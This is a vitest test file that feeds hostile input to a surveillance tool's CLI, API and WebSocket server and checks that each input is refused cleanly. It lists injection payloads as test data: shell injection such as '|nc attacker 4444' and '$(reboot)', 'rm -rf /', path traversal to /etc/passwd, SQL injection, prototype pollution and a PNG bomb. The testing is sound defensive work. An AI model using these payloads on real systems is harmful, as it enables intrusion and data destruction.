import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import WebSocket from 'ws';
import { sessionUser } from '../accounts/sessions.js';
import type { ApiContext } from '../api/context.js';
import { Api, type CallOutcome } from '../api/dispatch.js';
import { handlers } from '../api/handlers/index.js';
import type { SessionUser } from '../contract/contract.js';
import { Engine } from '../engine/engine.js';
import { Pipeline } from '../engine/pipeline.js';
import { packageRoot } from '../paths.js';
import { VigilServer } from '../serve/server.js';
import { asset, describeWithAssets } from '../testing/assets.js';
import { pngBomb } from '../testing/images.js';
import { testContext } from '../testing/api-context.js';

/**
 * Hostile input through each entry point: the CLI, the console's API, the WebSocket server and
 * the files beside the data. Each must end in one clear sentence (exit 1 or 2 for the CLI), never
 * a stack trace, with the store unchanged. A model file swapped for another is covered where the
 * models are checked: main/cli/cli.test.ts ("doctor and enroll name a swapped model file") and
 * main/zoo/families.test.ts (checksums of every shared model).
 */

const CLI = join(packageRoot(), 'dist', 'main', 'cli', 'vigil.js');
const CLIP = asset('videos', 'short_hamilton_clip.mp4');
const STACK = /\bat .+:\d+:\d+|node:internal|\.ts:\d+/;

function vigil(args: string[]) {
  const r = spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8', env: { ...process.env } });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

/** Row counts and a digest of every table, audit log included: a refusal changes nothing. */
function digest(dataDir: string): string {
  const engine = Engine.open({ dataDir });
  try {
    const h = createHash('sha256');
    const tables = engine.store.sql
      .prepare(
        "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name",
      )
      .pluck()
      .all() as string[];
    for (const t of tables) {
      if (t.startsWith('face_vectors')) continue;
      const rows = engine.store.sqlite.prepare(`SELECT * FROM "${t}" ORDER BY rowid`).raw().all();
      h.update(
        `${t}:${JSON.stringify(rows, (_k, v: unknown) => (Buffer.isBuffer(v) ? v.toString('hex') : v))}`,
      );
    }
    return h.digest('hex');
  } finally {
    engine.close();
  }
}

describeWithAssets('hostile input through the entry points', () => {
  let dir: string;
  beforeAll(async () => {
    if (!existsSync(CLI)) throw new Error('Build first (npm run build): the CLI runs from dist/.');
    dir = mkdtempSync(join(tmpdir(), 'vigil-hostile-'));
    const engine = Engine.open({ dataDir: dir });
    await engine.enroll({ name: 'Hostile Test Member' }, [asset('faces', 'celeba', '07201', '001085.jpg')]);
    engine.close();
  });

  it('the CLI refuses malformed and hostile arguments with one sentence, exit 1 or 2, changing nothing', () => {
    const before = digest(dir);
    const files = readdirSync(dir).sort();
    const cases: { args: string[]; code: 1 | 2; says: RegExp }[] = [
      { args: ['config', 'set', 'retention_days', '{not json'], code: 1, says: /not valid JSON/ },
      { args: ['config', 'set', 'retention_days', '"thirty"'], code: 1, says: /Invalid retention_days/ },
      {
        args: ['config', 'set', 'retention_days', '0'],
        code: 1,
        says: /must be a whole number from 1 to 3650/,
      },
      {
        args: ['config', 'set', 'alert_channels', '{"__proto__":{"webhook":1}}'],
        code: 1,
        says: /__proto__/,
      },
      { args: ['config', 'set', 'thresholds', '{"__proto__":{"recognition":0}}'], code: 1, says: /model id/ },
      { args: ['config', 'set', '../../etc/passwd', '1'], code: 2, says: /config takes get\|set KEY/ },
      { args: ['config', 'set', 'retention_days'], code: 2, says: /config set KEY JSON/ },
      // Keys every object inherits are not settings.
      { args: ['config', 'set', 'constructor', '1'], code: 2, says: /config takes get\|set KEY/ },
      { args: ['config', 'get', '__proto__'], code: 2, says: /config takes get\|set KEY/ },
      {
        args: ['cameras', 'add', '--id', '../../etc/passwd', '--name', 'X', '--url', CLIP],
        code: 1,
        says: /A camera id is 1–64 letters/,
      },
      {
        args: [
          'cameras',
          'add',
          '--id',
          'cam1',
          '--name',
          'X',
          '--url',
          'file:///etc/shadow-that-does-not-exist',
        ],
        code: 1,
        says: /does not exist/,
      },
      ...[
        'rtsp://127.0.0.1:554/live;reboot',
        'rtsp://$(reboot)/stream',
        'rtsp://camera/x|nc attacker 4444',
        'http://camera/`id`.mjpg',
      ].map((url) => ({
        args: ['cameras', 'add', '--id', 'cam1', '--name', 'X', '--url', url],
        code: 1 as const,
        says: /characters a camera address never needs/,
      })),
      {
        args: ['cameras', 'add', '--id', 'cam1', '--name', 'X', '--url', 'rtsp://-oProxyCommand=x/y'],
        code: 1,
        says: /does not name a valid host/,
      },
      {
        args: ['enroll', '--name', 'X', '../../../../../../etc/passwd'],
        code: 1,
        says: /^vigil: No usable photo/,
      },
      { args: ['members', 'show', '../../etc/passwd'], code: 1, says: /No member with id/ },
      { args: ['subject', 'export', '../../etc/passwd'], code: 1, says: /is not a person id/ },
      { args: ['subject', 'erase', 'MEMBER_../../x'], code: 1, says: /No person with id/ },
      { args: ['members', 'delete', "x' OR '1'='1"], code: 1, says: /No member with id/ },
      { args: ['frobnicate', '--json'], code: 2, says: /unknown command/ },
      { args: ['members', 'list', '--no-such-flag'], code: 2, says: /Unknown option/ },
    ];
    for (const c of cases) {
      const r = vigil([...c.args, '--data-dir', dir]);
      const what = `vigil ${c.args.join(' ')}: ${r.stderr}`;
      expect(r.code, what).toBe(c.code);
      expect(r.stdout, what).toBe('');
      expect(r.stderr.trim().split('\n'), what).toHaveLength(1);
      expect(r.stderr, what).toMatch(/^vigil: /);
      expect(r.stderr, what).toMatch(c.says);
      expect(r.stderr, what).not.toMatch(STACK);
    }
    expect(digest(dir)).toBe(before);
    expect(readdirSync(dir).sort()).toEqual(files);
  }, 120_000);

  it('damaged files beside the data (keys.json, serve.json) give a sentence, not a crash', () => {
    const copy = mkdtempSync(join(tmpdir(), 'vigil-hostile-files-'));
    cpSync(dir, copy, { recursive: true });
    writeFileSync(join(copy, 'serve.json'), '{"pid": "1; rm -rf /", "port": {"__proto__": 1}');
    const status = vigil(['cameras', 'status', '--data-dir', copy, '--json']);
    expect(status.code, status.stderr).toBe(0);
    expect(status.stderr).not.toMatch(STACK);
    expect(existsSync(join(copy, 'keys.json'))).toBe(true);
    writeFileSync(join(copy, 'keys.json'), '{"version": 1, "source": "device", "key_check": 42}');
    const r = vigil(['members', 'list', '--data-dir', copy]);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/^vigil: The key file .*keys\.json is damaged/);
    expect(r.stderr).not.toMatch(STACK);
  });

  describeWithAssets('through the console API and the WebSocket server', () => {
    let engine: Engine;
    let server: VigilServer;
    let port = 0;
    const token = 'hostile-test-machine-token';
    const api = new Api(handlers);
    let admin: SessionUser;
    const ctx = (user: SessionUser): ApiContext => testContext(engine, user);
    const call = (method: string, params: unknown): Promise<CallOutcome> =>
      api.call(ctx(admin), { method, params });
    const snapshot = () => {
      const h = createHash('sha256');
      for (const t of [
        'members',
        'embeddings',
        'appearances',
        'cameras',
        'system_config',
        'alerts',
        'audit_log',
      ])
        h.update(
          JSON.stringify(engine.store.sqlite.prepare(`SELECT * FROM ${t} ORDER BY rowid`).raw().all()),
        );
      return h.digest('hex');
    };

    beforeAll(async () => {
      engine = Engine.open({ dataDir: mkdtempSync(join(tmpdir(), 'vigil-hostile-api-')) });
      admin = sessionUser('admin', 'admin');
      const pipeline = new Pipeline(engine, { ffmpegPath: 'ffmpeg' });
      server = new VigilServer(engine, pipeline, {
        host: '127.0.0.1',
        port: 0,
        token,
        api,
        rendererDir: join(packageRoot(), 'dist', 'renderer'),
        pack: 'default',
        version: 'test',
      });
      port = await server.listen();
    });
    afterAll(async () => {
      await server?.close();
      engine?.close();
    });

    it('an administrator’s hostile but well-formed requests are refused with a sentence', async () => {
      const before = snapshot();
      const truncatedClip = join(engine.dataDir, '..', `truncated-${process.pid}.mp4`);
      writeFileSync(truncatedClip, readFileSync(CLIP).subarray(0, 4096));
      const jpeg = readFileSync(asset('faces', 'celeba', '07201', '001085.jpg'));
      const photo = (name: string, bytes: Buffer | string) => ({
        name,
        data: typeof bytes === 'string' ? bytes : bytes.toString('base64'),
      });
      const refused: [string, unknown, RegExp][] = [
        ['cameras.add', { id: '../../etc/passwd', name: 'X', url: CLIP }, /camera id/],
        ['cameras.add', { id: 'cam1', name: 'X', url: 'file:///etc/shadow-nope' }, /does not exist/],
        ['cameras.add', { id: 'cam1', name: 'X', url: 'rtsp://cam/$(reboot)' }, /never needs/],
        ['cameras.update', { id: '../../etc/passwd', name: 'Y' }, /\.$/],
        [
          'members.enroll',
          { member: { name: 'X' }, photos: [photo('../../etc/passwd', pngBomb())] },
          /No usable photo.*too large/,
        ],
        [
          'members.enroll',
          { member: { name: 'X' }, photos: [photo('/etc/shadow', jpeg.subarray(0, jpeg.length / 3))] },
          /No usable photo.*damaged or truncated/,
        ],
        ['members.enroll', { member: { name: 'X' }, photos: [photo('x.jpg', '%%%not base64%%%')] }, /\.$/],
        ['members.delete', { id: '../../etc/passwd' }, /No member/],
        ['subjects.erase', { id: '../../etc/passwd' }, /not a person id/],
        [
          'settings.set',
          { key: 'retention_days', value: '30; DROP TABLE members' },
          /Invalid retention_days/,
        ],
        ['settings.set', { key: '__proto__', value: {} }, /There is no setting called __proto__/],
        ['settings.set', { key: 'toString', value: 1 }, /There is no setting called toString/],
        [
          'settings.set',
          { key: 'thresholds', value: JSON.parse('{"__proto__": {"unknown": 0}}') },
          /model id/,
        ],
      ];
      for (const [method, params, says] of refused) {
        const out = await call(method, params);
        const what = `${method} ${JSON.stringify(params).slice(0, 120)}: ${JSON.stringify(out).slice(0, 300)}`;
        expect(out.ok, what).toBe(false);
        if (out.ok) continue;
        expect(out.error.code, what).not.toBe('INTERNAL');
        expect(out.error.message, what).toMatch(says);
        expect(out.error.message, what).toMatch(/^[A-Z/.].*[.!?]$/s);
        expect(out.error.message, what).not.toMatch(STACK);
      }
      // Checks answer with a verdict rather than an error.
      const bomb = await call('members.checkPhoto', { photo: photo('bomb.png', pngBomb()) });
      expect(bomb).toMatchObject({
        ok: true,
        result: { ok: false, reason: expect.stringMatching(/too large/) },
      });
      const injected = await call('cameras.test', { url: 'rtsp://127.0.0.1/live;reboot' });
      expect(injected).toMatchObject({
        ok: true,
        result: { ok: false, message: expect.stringMatching(/never needs/) },
      });
      const truncated = await call('cameras.test', { url: truncatedClip });
      expect(truncated).toMatchObject({
        ok: true,
        result: { ok: false, message: expect.stringMatching(/^Cannot open/) },
      });
      // cameras.test audits the attempt; nothing else may change.
      engine.store.sql.prepare("DELETE FROM audit_log WHERE action = 'camera_tested'").run();
      expect(snapshot()).toBe(before);
      expect(({} as Record<string, unknown>).unknown).toBeUndefined();
    });

    it('the WebSocket answers garbage with a sentence, closes an oversize message, and stays up', async () => {
      const before = snapshot();
      const open = () =>
        new Promise<WebSocket>((resolve, reject) => {
          const ws = new WebSocket(`ws://127.0.0.1:${port}/ws`, {
            maxPayload: 1 << 20,
            headers: { authorization: `Bearer ${token}` },
          });
          ws.once('open', () => resolve(ws));
          ws.once('error', reject);
        });
      const reply = (ws: WebSocket, data: string) =>
        new Promise<{ ok: boolean; error?: { code: string; message: string }; result?: unknown }>(
          (resolve) => {
            const onMessage = (d: WebSocket.RawData) => {
              const m = JSON.parse(String(d)) as { kind: string; ok: boolean };
              if (m.kind !== 'response') return;
              ws.off('message', onMessage);
              resolve(m);
            };
            ws.on('message', onMessage);
            ws.send(data);
          },
        );

      const ws = await open();
      for (const garbage of [
        'not json',
        // Valid JSON that is not an object used to throw in the listener and stop the server.
        'null',
        '42',
        '[]',
        '"text"',
        'true',
        '{"kind":"request","id":1,"method":{"toString":1}}',
        '{"kind":"request","id":"x","method":"members.delete","params":{"id":{"$gt":""}}}',
        JSON.stringify({
          kind: 'request',
          id: 2,
          method: 'settings.set',
          params: JSON.parse('{"__proto__":{}}'),
        }),
        '['.repeat(100_000),
      ]) {
        const r = await reply(ws, garbage);
        expect(r.ok, garbage.slice(0, 80)).toBe(false);
        expect(r.error!.code).toBe('BAD_REQUEST');
        expect(r.error!.message).toMatch(/^[A-Z].*\.$/);
      }
      const closed = new Promise<number>((resolve) => ws.once('close', (code) => resolve(code)));
      ws.on('error', () => {}); // the server hangs up while the client is still sending
      ws.send('x'.repeat(64 * 1024 * 1024 + 1));
      expect(await closed).toBe(1009);

      const binary = await open();
      const closedBinary = new Promise<number>((resolve) => binary.once('close', (code) => resolve(code)));
      binary.send(Buffer.from([1, 2, 3]));
      expect(await closedBinary).toBe(1003);

      const status = await new Promise<number>((resolve, reject) => {
        const req = request(
          {
            host: '127.0.0.1',
            port,
            path: '/api/rpc',
            method: 'POST',
            headers: { 'content-type': 'application/json' },
          },
          (res) => {
            res.resume();
            resolve(res.statusCode ?? 0);
          },
        );
        req.on('error', (e: NodeJS.ErrnoException) =>
          e.code === 'EPIPE' || e.code === 'ECONNRESET' ? resolve(413) : reject(e),
        );
        req.end(Buffer.alloc(64 * 1024 * 1024 + 1, 0x20));
      });
      expect(status).toBe(413);

      const again = await open();
      const info = await reply(
        again,
        JSON.stringify({ kind: 'request', id: 3, method: 'system.info', params: {} }),
      );
      expect(info).toMatchObject({ ok: true, result: { pack: 'default' } });
      again.close();
      expect(snapshot()).toBe(before);
    }, 60_000);
  });
});
